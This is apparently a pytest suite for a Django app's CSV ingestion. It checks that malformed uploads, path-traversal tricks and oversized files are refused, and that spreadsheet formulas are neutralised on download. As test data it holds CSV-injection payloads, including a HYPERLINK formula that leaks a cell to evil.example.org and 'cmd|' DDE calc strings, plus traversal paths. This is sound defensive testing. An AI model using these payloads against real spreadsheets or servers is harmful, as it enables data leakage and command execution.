"""Bad input (SPEC §4.2, reference-domain §3.2 and §3.6): a corpus of malformed uploads, each run
through the real path — temp-upload and dispatch through the API, then the ``csv_ingest``
handler in this process (``run_until_idle``) — on top of data ingested from good files first.

For **every** file of ``CORPUS`` (generated here, ``len(CORPUS) >= 40``):
- the pipeline FAILS with a message that names the row and column, or the file-level reason
  (the root job's ``status_message``; row errors also in ``meta.stats.row_errors``);
- nothing downstream runs (no recalculation, no aggregation);
- the previously ingested data is exactly as before: every entry, every emission, every report
  module's and report's stats, every factor, and the processed files (full snapshots compared).

Around the corpus: paths in ``file_path`` (traversal, absolute, NUL, backslashes, URL-encoding,
symlinks out of FILES_ROOT or out of ``tmp/``), file names of uploads, and the upload size
limit (one byte over is a 413 that stores nothing, refused while the body is read:
``config.uploads``). Download paths are covered by ``tests/ingestion/test_api_files.py``.

Spreadsheet formulas (``=HYPERLINK(…)``, ``+``, ``-``, ``@``) — decision, see
``ingestion.csv_safe``: in a typed column they are refused like any other bad value (they are in
the corpus); in a free-text column they are stored verbatim (a "-80 °C freezer" is a real name),
never evaluated, and neutralised (``'`` prefix) whenever a CSV is downloaded.

NUL bytes — no CSV text holds one, and PostgreSQL cannot store U+0000 in text or JSON: NULs in the
first block of a file name it UTF-16 without a byte-order mark, or binary (``ingestion.csvio``); a
NUL further in is refused by the text column holding it (``carbon.catalogue.base.Column``).

A case found to fail for a bug whose fix belongs elsewhere is marked with ``Bad.xfail`` (a strict
xfail, so it turns red as soon as the fix lands and the marker must go).
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.conf import LazySettings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.handlers.wsgi import WSGIRequest
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from carbon.choices import DataEntrySource
from carbon.models import (
    CarbonReport,
    CarbonReportModule,
    DataEntry,
    DataEntryEmission,
    Factor,
    YearConfiguration,
)
from carbon.services import year_configuration_default_config
from config.uploads import UploadTooLargeError
from ingestion.csv_safe import FORMULA_PREFIXES, neutralise_line
from ingestion.services_data import reports_ensure
from pipelines.choices import JobResult, JobType, PipelineStatus
from pipelines.models import IngestionJob, Pipeline
from tests.carbon.conftest import make_factor
from tests.pipelines.conftest import run_until_idle
from tests.roles import Roles

pytestmark = pytest.mark.django_db(transaction=True, databases="__all__")

UPLOAD = "/api/v1/files/temp-upload"
DISPATCH = "/api/v1/sync/dispatch"
MEMBERS = "unit_institutional_id,name,sius_code,user_institutional_id,fte,note"
EQUIPMENT = (
    "unit_institutional_id,equipment_id,name,equipment_class,active_usage_hours_per_week,standby_usage_hours_per_week"
)
UNIT_MEMBERS = "name,sius_code,user_institutional_id,fte"
GOOD_MEMBERS = f"{MEMBERS}\n9001,Ada Lovelace,53,101,0.8,\n9002,Alan Turing,54,102,1,PhD\n"
GOOD_EQUIPMENT = f"{EQUIPMENT}\n9001,B1,EIZO,Monitors,40,128\n9002,B2,EIZO,Monitors,20,148\n"
MB = 1024 * 1024


# --- The world: a provisioned year, two labs, factors, and data ingested from good files ------------


@pytest.fixture
def area(roles: Roles, settings: LazySettings, tmp_path: Path) -> Path:
    root = tmp_path / "files"
    root.mkdir()
    settings.FILES_ROOT = root
    YearConfiguration.objects.create(
        year=2025, configuration_completed=timezone.now(), config=year_configuration_default_config()
    )
    reports_ensure(unit_ids=[roles.unit_a.pk, roles.unit_b.pk], year=2025)
    make_factor(1, 10001, {"headcount_category": "food", "headcount_class": "vegetarian", "unit": "meal"},
                number_of_unit_per_fte=100, ef_kg_co2eq_per_unit=1.2)  # fmt: skip
    make_factor(11, 80200, {"equipment_class": "Monitors"}, active_power_w=100, standby_power_w=10,
                active_usage_hours_per_week=40, standby_usage_hours_per_week=128, ef_kg_co2eq_per_kwh=0.1)  # fmt: skip
    return root


def crm_a(roles: Roles) -> int:
    return CarbonReportModule.objects.get(report__unit=roles.unit_a, report__year=2025, module_type_id=1).pk


def upload(client: APIClient, content: bytes, name: str = "upload.csv") -> str:
    response = client.post(UPLOAD, {"files": [SimpleUploadedFile(name, content, "text/csv")]}, format="multipart")
    assert response.status_code == 200, response.json()
    path: str = response.json()["files"][0]["path"]
    return path


def dispatch_body(target: str, file_path: str, roles: Roles) -> dict[str, Any]:
    config: dict[str, Any] = {
        "members": {"module_type_id": 1, "data_entry_type_id": 1},
        "equipment": {"module_type_id": 4},
        "unit": {"module_type_id": 1, "data_entry_type_id": 1, "carbon_report_module_id": crm_a(roles)},
    }[target]
    return {"ingestion_method": "csv", "target_type": "DATA_ENTRIES", "year": 2025, "file_path": file_path,
            "config": config}  # fmt: skip


def ingest(roles: Roles, content: bytes, target: str = "members") -> Pipeline:
    """Upload CONTENT and dispatch it as superadmin through the API, then run the pipeline here."""
    client = roles.client("superadmin")
    response = client.post(DISPATCH, dispatch_body(target, upload(client, content), roles), format="json")
    assert response.status_code == 200, response.json()
    run_until_idle()
    return Pipeline.objects.get(pk=response.json()["pipeline_id"])


def snapshot(root: Path) -> dict[str, Any]:
    """Everything a bad upload must leave as it was, row for row and byte for byte."""
    return {
        "entries": list(DataEntry.objects.order_by("id").values()),
        "emissions": list(DataEntryEmission.objects.order_by("id").values()),
        "modules": list(CarbonReportModule.objects.order_by("id").values()),
        "reports": list(CarbonReport.objects.order_by("id").values()),
        "factors": list(Factor.objects.order_by("id").values()),
        "processed": {str(p.relative_to(root)): p.read_bytes() for p in (root / "processed").rglob("*") if p.is_file()},
    }


@pytest.fixture
def ingested(area: Path, roles: Roles) -> dict[str, Any]:
    """The good files ingested end to end (ingest → recalc → aggregation); their snapshot."""
    DataEntry.objects.create(  # a person entered by hand, whom an upload may not duplicate
        carbon_report_module_id=crm_a(roles), data_entry_type_id=1, module_type_id=1, year=2025,
        unit=roles.unit_a, data={"name": "Grace Hopper", "sius_code": "53", "user_institutional_id": "103",
                                 "fte": 1}, source=DataEntrySource.USER_MANUAL,
    )  # fmt: skip
    for content, target in ((GOOD_MEMBERS, "members"), (GOOD_EQUIPMENT, "equipment")):
        pipeline = ingest(roles, content.encode(), target)
        assert pipeline.status == PipelineStatus.SUCCESS, pipeline.last_error
    state = snapshot(area)
    assert len(state["entries"]) == 5
    assert len(state["emissions"]) == 5  # one per entry: a member has one factor, a monitor one
    assert all(report["stats"] for report in state["reports"])
    assert len(state["processed"]) == 2
    return state


# --- The corpus -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Bad:
    """A malformed upload: its bytes, what it is dispatched as, and the message it must fail with
    (a regular expression searched in the root job's status message)."""

    name: str
    content: bytes
    message: str
    target: str = "members"
    # For row errors: (row, column) of the first one, also checked in meta.stats.row_errors.
    first: tuple[int, str | None] | None = None
    xfail: str = ""


def members(*rows: str, header: str = MEMBERS, encoding: str = "utf-8", end: str = "\n") -> bytes:
    return (end.join([header, *rows]) + end).encode(encoding)


def equipment(*rows: str) -> bytes:
    return "\n".join([EQUIPMENT, *rows, ""]).encode()


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("members.csv", GOOD_MEMBERS * 20)
    return buffer.getvalue()


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\x1f\x15\xc4\x89" * 4
NOT_UTF8 = r"the file is not UTF-8 \(byte 0x[0-9a-f]{2}\); save it as UTF-8"
# A binary file holding NUL bytes in its first block is named binary; one without them is not UTF-8.
BINARY = rf"Row \d+: {NOT_UTF8}|binary"
ROW = r"first error: row {row}, column {column}: "

CORPUS: list[Bad] = [
    # encodings and BOMs
    Bad("latin-1", members("9001,Zoé Müller,53,201,1,", encoding="latin-1"), "Row 2: " + NOT_UTF8),
    Bad("cp1252 quotes", members("9001,\u201cAda\u201d,53,201,1,", encoding="cp1252"), "Row 2: " + NOT_UTF8),
    Bad(
        "mixed: UTF-8 then latin-1",
        members("9001,Zoé,53,201,1,", "9001,Ada,53,202,1,") + "9001,Zoé,53,203,1,\n".encode("latin-1"),
        "Row 4: " + NOT_UTF8,
    ),  # fmt: skip
    Bad(
        "UTF-16 LE with BOM",
        codecs.BOM_UTF16_LE + members("9001,Ada,53,201,1,", encoding="utf-16-le"),
        "The file is UTF-16; save it as UTF-8",
    ),  # fmt: skip
    Bad(
        "UTF-16 BE with BOM",
        codecs.BOM_UTF16_BE + members("9001,Ada,53,201,1,", encoding="utf-16-be"),
        "The file is UTF-16; save it as UTF-8",
    ),  # fmt: skip
    Bad("UTF-16 LE without BOM", members("9001,Ada,53,201,1,", encoding="utf-16-le"), r"UTF-16|NUL"),
    Bad("CESU surrogate bytes", members("9001,A?da,53,201,1,").replace(b"?", b"\xed\xa0\x80"), "Row 2: " + NOT_UTF8),
    Bad("overlong UTF-8", members("9001,Ada,53,201,1,").replace(b"Ada", b"A\xc0\xafa"), "Row 2: " + NOT_UTF8),
    Bad("BOM only", codecs.BOM_UTF8, "The file is empty"),
    # delimiters, header, columns
    Bad(
        "semicolons",
        members("9001;Ada;53;201;1;", header=MEMBERS.replace(",", ";")),
        "The file uses ';' as its delimiter; save it with ',' between columns",
    ),  # fmt: skip
    Bad(
        "BOM and semicolons",
        codecs.BOM_UTF8 + members("9001;Ada;53;201;1;", header=MEMBERS.replace(",", ";")),
        "The file uses ';' as its delimiter",
    ),  # fmt: skip
    Bad("tabs", members("9001\tAda\t53\t201\t1\t", header=MEMBERS.replace(",", "\t")), r"(?i)tab"),
    Bad("empty", b"", "The file is empty"),
    Bad("blank lines only", b"\n\n  \n", "The file is empty"),
    Bad("header only", members(), "The file has a header but no data rows"),
    Bad("header and blank rows", members(",,,,,", "", " , "), "The file has a header but no data rows"),
    Bad(
        "blank line before the header",
        b"\n" + members("9001,Ada,53,201,5,"),
        ROW.format(row=3, column="fte"),
        first=(3, "fte"),
    ),  # fmt: skip
    Bad(
        "missing column",
        members("9001,Ada,53,201,", header="unit_institutional_id,name,sius_code,user_institutional_id,note"),
        "Missing required columns: fte",
    ),  # fmt: skip
    Bad(
        "missing unit column",
        members("Ada,53,201,1", header=UNIT_MEMBERS),
        "Missing required columns: unit_institutional_id",
    ),  # fmt: skip
    Bad(
        "duplicate column",
        members("9001,Ada,53,201,1,1", header=f"{MEMBERS.rsplit(',', 1)[0]},fte,fte"),
        "Duplicate column: fte",
    ),  # fmt: skip
    Bad("duplicate column by case", members("9001,Ada,53,201,1,1", header=f"{MEMBERS},FTE"), "Duplicate column: fte"),
    Bad(
        "header field too long",
        members("9001,Ada,53,201,1,", header=MEMBERS + "," + "x" * (2 * MB)),
        "Row 1: a field is too long",
    ),  # fmt: skip
    Bad(
        "unit-specific, missing column",
        members("Ada,53,201", header="name,sius_code,user_institutional_id"),
        "Missing required columns: fte",
        target="unit",
    ),  # fmt: skip
    # rows: extra, missing and wrong values
    Bad(
        "extra values",
        members("9001,Ada,53,201,1,,surplus"),
        r"first error: row 2: has more values than the header",
        first=(2, None),
    ),  # fmt: skip
    Bad(
        "value under a blank header cell",
        members("9001,Ada,53,201,1,,x", header=f"{MEMBERS},"),
        r"row 2: has more values than the header has columns \(extra: 'x'\)",
        first=(2, None),
    ),  # fmt: skip
    Bad(
        "truncated row",
        members("9001,Ada"),
        ROW.format(row=2, column="sius_code") + "is required",
        first=(2, "sius_code"),
    ),
    Bad(
        "empty required value",
        members("9001,,53,201,1,"),
        ROW.format(row=2, column="name") + "is required",
        first=(2, "name"),
    ),  # fmt: skip
    Bad(
        "not a number",
        members("9001,Ada,53,201,abc,"),
        ROW.format(row=2, column="fte") + r"must be a number \(got 'abc'\)",
        first=(2, "fte"),
    ),  # fmt: skip
    Bad(
        "decimal comma",
        members('9001,Ada,53,201,"0,5",'),
        r"must be a number \(use a dot as the decimal separator\)",
        first=(2, "fte"),
    ),  # fmt: skip
    Bad(
        "above the range", members("9001,Ada,53,201,1.5,"), ROW.format(row=2, column="fte") + r"must be ≤ 1 \(got 1.5\)"
    ),
    Bad("below the range", members("9001,Ada,53,201,-0.1,"), r"must be ≥ 0 \(got -0.1\)", first=(2, "fte")),
    Bad("NaN", members("9001,Ada,53,201,nan,"), ROW.format(row=2, column="fte") + "must be a finite number"),
    Bad("overflow to infinity", members("9001,Ada,53,201,1e309,"), "must be a finite number", first=(2, "fte")),
    Bad(
        "bad override",
        members("9001,Ada,53,201,1,,abc", header=f"{MEMBERS},kg_co2eq"),
        ROW.format(row=2, column="kg_co2eq") + "must be a number",
    ),  # fmt: skip
    Bad(
        "infinite override",
        members("9001,Ada,53,201,1,,-inf", header=f"{MEMBERS},kg_co2eq"),
        ROW.format(row=2, column="kg_co2eq") + "must be a finite number",
    ),  # fmt: skip
    # unknown units and enumeration values
    Bad(
        "unknown unit",
        members("99999,Ada,53,201,1,"),
        ROW.format(row=2, column="unit_institutional_id") + "unknown unit '99999'",
    ),
    Bad(
        "no unit on any row", members(",Ada,53,201,1,", ",Bob,53,202,1,"), "No unit_institutional_id value in the file"
    ),
    Bad(
        "unknown enumeration value",
        members("9001,Ada,99,201,1,"),
        ROW.format(row=2, column="sius_code") + "must be one of 51, 52",
    ),
    Bad(
        "unknown equipment class",
        equipment("9001,B9,Toaster,Toasters,1,1"),
        r"first error: row 2: no factor of 2025 matches this row",
        target="equipment",
    ),  # fmt: skip
    Bad(
        "hours above a week",
        equipment("9001,B9,EIZO,Monitors,169,0"),
        ROW.format(row=2, column="active_usage_hours_per_week") + "must be ≤ 168",
        target="equipment",
    ),  # fmt: skip
    Bad(
        "fractional hours",
        equipment("9001,B9,EIZO,Monitors,40.5,0"),
        r"must be a whole number \(got 40.5\)",
        target="equipment",
        first=(2, "active_usage_hours_per_week"),
    ),  # fmt: skip
    Bad(
        "already entered by hand",
        members("Grace,53,103,1", header=UNIT_MEMBERS),
        target="unit",
        message=ROW.format(row=2, column="user_institutional_id") + "this person is already entered manually",
    ),
    # spreadsheet formulas in typed columns: refused like any bad value
    Bad(
        "formula as a number",
        members('9001,Ada,53,201,"=HYPERLINK(""http://evil.example.org"",""x"")",'),
        ROW.format(row=2, column="fte") + "must be a number",
        first=(2, "fte"),
    ),  # fmt: skip
    Bad(
        "@ formula as a choice",
        members("9001,Ada,@SUM(1+1),201,1,"),
        ROW.format(row=2, column="sius_code") + "must be one of",
    ),
    Bad("+ formula as a number", members("9001,Ada,53,201,+1+cmd|' /C calc'!A0,"), ROW.format(row=2, column="fte")),
    Bad("- formula as a choice", members("9001,Ada,-2+3,201,1,"), ROW.format(row=2, column="sius_code")),
    # binaries
    Bad("PNG", PNG, BINARY),
    Bad("zip", _zip(), BINARY),
    Bad("gzip", gzip.compress(GOOD_MEMBERS.encode() * 20, mtime=0), BINARY),
    Bad("NUL bytes", b"\x00" * 4096, r"NUL|binary|UTF-16"),
    # PostgreSQL cannot store U+0000 in JSON (the COPY fails); SQLite would store it.
    Bad("NUL in a value", members("9001,A\x00da,53,201,1,"), r"NUL"),
    Bad(
        "NUL deep in a value",
        members("9001,Ada,53,201,1," + "x" * 70_000 + "\x00"),
        ROW.format(row=2, column="note") + ".*NUL",
        first=(2, "note"),
    ),
    # sizes, quoting, line endings
    Bad(
        "10 MB single field",
        members("9001,Ada,53,201,1," + "x" * (10 * MB)),
        r"Row 2: a field is too long \(a field may hold at most 1024 KB\)",
    ),  # fmt: skip
    Bad(
        "quoted newlines keep row numbers",
        members('9001,"Ada\nLovelace",53,201,2,', "9001,Bob,53,202,3,"),
        ROW.format(row=2, column="fte") + r"must be ≤ 1 \(got 2\)",
        first=(2, "fte"),
    ),  # fmt: skip
    Bad(
        "unterminated quote",
        members('9001,"Ada,53,201,1,', "9001,Bob,53,202,1,"),
        ROW.format(row=2, column="sius_code") + "is required",
    ),  # fmt: skip
    Bad(
        "CRLF",
        members("9001,Ada,53,201,2,", "9001,Bob,53,202,3,", end="\r\n"),
        ROW.format(row=2, column="fte") + r"must be ≤ 1 \(got 2\)",
        first=(2, "fte"),
    ),  # fmt: skip
    Bad(
        "CR only",
        members("9001,Ada,53,201,2,", end="\r"),
        r"(?i)row 2, column fte|line ending|carriage return",
    ),  # fmt: skip
    Bad(
        "a thousand bad rows",
        members(*[f"9001,P{i},53,{300 + i},9," for i in range(1000)]),
        r"ERROR: 0 inserted, 1000 skipped — first error: row 2, column fte: must be ≤ 1 \(got 9\)",
    ),  # fmt: skip
]


def _case(bad: Bad) -> Any:
    marks = [pytest.mark.xfail(strict=True, reason=bad.xfail)] if bad.xfail else []
    return pytest.param(bad, id=bad.name, marks=marks)


def test_the_corpus_is_large_and_its_names_are_unique() -> None:
    assert len(CORPUS) >= 40
    assert len({bad.name for bad in CORPUS}) == len(CORPUS)


@pytest.mark.slow
@pytest.mark.parametrize("bad", [_case(bad) for bad in CORPUS])
def test_a_bad_file_fails_clearly_and_changes_nothing(
    roles: Roles, area: Path, ingested: dict[str, Any], bad: Bad
) -> None:
    pipeline = ingest(roles, bad.content, bad.target)
    jobs = list(IngestionJob.objects.filter(pipeline=pipeline).order_by("id"))
    root = jobs[0]
    assert [j.job_type for j in jobs] == [JobType.CSV_INGEST], "nothing may run after a failed ingest"
    assert (pipeline.status, root.result) == (PipelineStatus.FAILED, JobResult.ERROR), root.status_message
    assert re.search(bad.message, root.status_message), root.status_message
    assert pipeline.last_error == root.status_message
    stats = root.meta.get("stats") or {}
    if bad.first is not None:
        first = stats["row_errors"][0]
        assert (first["row"], first["column"]) == bad.first, first
        assert stats["row_errors_count"] >= 1
    if bad.name == "a thousand bad rows":
        assert (stats["row_errors_count"], len(stats["row_errors"])) == (1000, 100)  # every one counted, 100 kept
    assert snapshot(area) == ingested


# --- Paths: file_path of a dispatch, and names of uploads --------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    ("trick", "reason"),
    [
        ("../secret.csv", "without '..'"),
        ("tmp/../../secret.csv", "without '..'"),
        ("tmp/../processed/{job}/members.csv", "without '..'"),
        ("tmp/../processed/..", "without '..'"),
        ("/SECRET", "must be relative"),
        ("//SECRET", "must be relative"),
        ("processed/{job}/members.csv", "must start with tmp/"),
        ("tmp\\..\\..\\secret.csv", "is not a valid relative path"),
        ("tmp/upload.csv\x00.png", "Null characters are not allowed"),
        ("tmp/%2e%2e/%2e%2e/secret.csv", "does not exist"),
        ("tmp%2f..%2f..%2fsecret.csv", "must start with tmp/"),
        ("tmp/outside/secret.csv", "leaves the files area"),  # a symlinked folder out of FILES_ROOT
        ("tmp/link/secret.csv", "leaves the files area"),  # a symlinked file out of FILES_ROOT
        ("tmp/borrowed/members.csv", "leads out of tmp/"),  # a symlink to another job's processed file
        ("tmp", "must start with tmp/"),
        ("tmp/", "does not exist"),
    ],
)
def test_a_file_path_trick_is_a_400_naming_the_field_and_nothing_happens(
    roles: Roles, area: Path, ingested: dict[str, Any], tmp_path: Path, trick: str, reason: str
) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text(GOOD_MEMBERS)
    job = IngestionJob.objects.filter(job_type=JobType.CSV_INGEST).order_by("id").values_list("pk", flat=True)[0]
    (area / "tmp" / "link").mkdir(parents=True)
    (area / "tmp" / "link" / "secret.csv").symlink_to(secret)
    (area / "tmp" / "outside").symlink_to(tmp_path, target_is_directory=True)
    (area / "tmp" / "borrowed").symlink_to(area / "processed" / str(job), target_is_directory=True)
    file_path = trick.replace("SECRET", str(secret).lstrip("/")).replace("{job}", str(job))
    pipelines = Pipeline.objects.count()
    response = roles.client("superadmin").post(DISPATCH, dispatch_body("members", file_path, roles), format="json")
    assert response.status_code == 400, response.json()
    assert response.json()["detail"].startswith("file_path: "), response.json()
    assert reason in response.json()["detail"]
    assert Pipeline.objects.count() == pipelines
    assert secret.read_text() == GOOD_MEMBERS
    assert snapshot(area) == ingested


@pytest.mark.parametrize(
    "name",
    ["../../escape.csv", "..\\..\\escape.csv", "/etc/escape.csv", "C:\\Windows\\escape.csv", "tmp/../../escape.csv",
     ".csv", "x" * 300 + ".csv", "é t\u202e.csv"],
)  # fmt: skip
def test_an_uploads_name_never_leads_out_of_its_tmp_folder(roles: Roles, area: Path, tmp_path: Path, name: str) -> None:
    # Built by hand: the test client would send only the name's last component.
    part = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
    body = (
        (part + "Content-Type: text/csv\r\n\r\n").encode() + GOOD_MEMBERS.encode() + f"\r\n--{BOUNDARY}--\r\n".encode()
    )
    response = roles.client("superadmin").post(UPLOAD, data=body, content_type=MULTIPART_CONTENT)
    assert response.status_code == 200, response.json()
    stored = response.json()["files"][0]["path"]
    assert re.fullmatch(r"tmp/\d+/[A-Za-z0-9._-]{1,120}", stored), stored
    assert (area / stored).read_bytes() == GOOD_MEMBERS.encode()
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == [area / stored]


# --- The upload limit ----------------------------------------------------------------------------------


def test_one_byte_over_the_limit_is_a_413_that_stores_nothing(
    roles: Roles, area: Path, settings: LazySettings, tmp_path: Path
) -> None:
    settings.FILES_MAX_SIZE_MB = 1
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024  # so that Django spools to temporary files
    spool = tmp_path / "spool"
    spool.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(spool)
    client = roles.client("superadmin")
    over = SimpleUploadedFile("big.csv", b"x" * (MB + 1), "text/csv")
    response = client.post(UPLOAD, {"files": [over]}, format="multipart")
    assert response.status_code == 413
    assert response.json() == {"detail": "big.csv: larger than the 1 MB upload limit"}
    assert [p for p in area.rglob("*") if p.is_file()] == []
    assert list(spool.iterdir()) == []  # Django's partial temporary file is gone too
    # the same through the dispatch's own multipart file
    body = {"ingestion_method": "csv", "target_type": "DATA_ENTRIES", "year": 2025,
            "config": '{"module_type_id": 1, "data_entry_type_id": 1}', "file": over}  # fmt: skip
    over.seek(0)
    assert client.post(DISPATCH, body, format="multipart").status_code == 413
    assert not Pipeline.objects.exists()
    exact = SimpleUploadedFile("exact.csv", b"x" * MB, "text/csv")
    assert client.post(UPLOAD, {"files": [exact]}, format="multipart").status_code == 200


class CountingInput(io.BytesIO):
    """A request body that counts what the server read of it."""

    consumed = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.consumed += len(data)
        return data


def test_the_upload_handler_stops_reading_the_body_past_the_limit(settings: LazySettings) -> None:
    settings.FILES_MAX_SIZE_MB = 1
    payload = encode_multipart(BOUNDARY, {"files": SimpleUploadedFile("big.csv", b"x" * (20 * MB), "text/csv")})
    body = CountingInput(payload)
    request = WSGIRequest(
        {
            "REQUEST_METHOD": "POST",
            "PATH_INFO": UPLOAD,
            "CONTENT_TYPE": MULTIPART_CONTENT,
            "CONTENT_LENGTH": str(len(payload)),
            "wsgi.input": body,
            "SERVER_NAME": "testserver",
            "SERVER_PORT": "80",
        }
    )
    with pytest.raises(UploadTooLargeError, match="big.csv: larger than the 1 MB upload limit"):
        _ = request.FILES
    assert body.consumed < 2 * MB, f"read {body.consumed} bytes of a {len(payload)}-byte body"


# --- Spreadsheet formulas: stored verbatim as text, neutralised on download ---------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example.org/?leak="&A1,"click")',
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-80 °C freezer",
}


def test_formula_text_is_stored_verbatim_and_neutralised_in_downloads(
    roles: Roles, area: Path, ingested: dict[str, Any]
) -> None:
    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    writer.writerow(MEMBERS.split(","))
    writer.writerow(["9001", FORMULAS["name"], "53", "201", "1", FORMULAS["note"]])
    writer.writerow(["9001", FORMULAS["plus"], "53", "202", "-0", FORMULAS["minus"]])
    pipeline = ingest(roles, rows.getvalue().encode())
    assert pipeline.status == PipelineStatus.SUCCESS, pipeline.last_error
    csv_members = DataEntry.objects.filter(data_entry_type_id=1, source=DataEntrySource.CSV_MODULE_PER_YEAR)
    stored = {e.data["user_institutional_id"]: e.data for e in csv_members}
    assert (stored["201"]["name"], stored["201"]["note"]) == (FORMULAS["name"], FORMULAS["note"])
    assert (stored["202"]["name"], stored["202"]["note"]) == (FORMULAS["plus"], FORMULAS["minus"])
    root = IngestionJob.objects.filter(pipeline=pipeline).order_by("id")[0]
    path = root.meta["processed_file_path"]
    assert (area / path).read_bytes() == rows.getvalue().encode()  # the stored file is the upload, untouched
    response = roles.client("superadmin").get(f"/api/v1/files/{path}?d=true")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{Path(path).name}"'
    cells = list(csv.reader(io.StringIO(response.getvalue().decode())))
    assert cells[1] == ["9001", "'" + FORMULAS["name"], "53", "201", "1", "'" + FORMULAS["note"]]
    assert cells[2] == ["9001", "'" + FORMULAS["plus"], "53", "202", "-0", "'" + FORMULAS["minus"]]
    # A file without formula cells downloads byte for byte as it was uploaded.
    first = IngestionJob.objects.filter(job_type=JobType.CSV_INGEST).order_by("id")[0]
    plain = roles.client("superadmin").get(f"/api/v1/files/{first.meta['processed_file_path']}")
    assert plain.getvalue() == GOOD_MEMBERS.encode()


CELL = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12) | st.sampled_from(
    ["=1+1", "+1", "-1", "-2+3", "@x", "\tx", "\rx", '="a"', '"=x"', "-1e3", "+.5", "", ",", '"', "\n=x"]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(CELL, min_size=1, max_size=5), min_size=1, max_size=6), st.sampled_from(["\n", "\r\n"]))
@pytest.mark.django_db(transaction=False)
def test_neutralising_keeps_every_cell_and_leaves_none_a_spreadsheet_would_run(
    table: list[list[str]], newline: str
) -> None:
    """Property: any table written as CSV reads back, once neutralised, with each cell equal to the
    original or to ``'`` + the original, and no cell that starts like a formula unless it is a
    plain number; a table without such cells is unchanged byte for byte."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=newline).writerows(table)
    text = buffer.getvalue()
    out: list[str] = []
    in_quotes = False
    for line in io.StringIO(text, newline=""):  # lines as the download reads them (\n, \r\n or \r)
        safe, in_quotes = neutralise_line(line, in_quotes)
        out.append(safe)
    back = list(csv.reader(io.StringIO("".join(out), newline="")))
    original = list(csv.reader(io.StringIO(text, newline="")))
    assert len(back) == len(original)
    number = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
    for row_back, row in zip(back, original, strict=True):
        assert len(row_back) == len(row)
        for got, cell in zip(row_back, row, strict=True):
            risky = bool(cell) and cell[0] in FORMULA_PREFIXES and not number.fullmatch(cell)
            assert got == ("'" + cell if risky else cell)
    if not any(c and c[0] in FORMULA_PREFIXES for row in original for c in row):
        assert "".join(out) == text
